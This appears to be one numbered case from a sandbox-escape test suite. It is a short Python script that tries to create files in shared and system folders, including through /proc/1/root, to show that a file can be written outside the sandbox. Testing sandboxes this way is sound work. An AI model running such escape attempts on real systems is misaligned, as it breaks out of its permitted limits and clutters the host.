# attack: 80
# title: the folder of the kernels' sockets and every shared folder is filled
# success: a file outside the box exists
# unshown: would harm the machine without a box
import os

made = []
for folder in ("@RUN@", "@COURSE@", os.path.dirname("@RUN@"), "/dev/shm", "/run", "/var", "/"):
    for root in ("", "/proc/1/root", "/proc/self/root"):
        for number in range(20):
            try:
                path = f"{root}{folder}/corpus_{number}"
                os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
                made.append(path)
            except OSError:
                break
print([path for path in made if "shm" not in path])
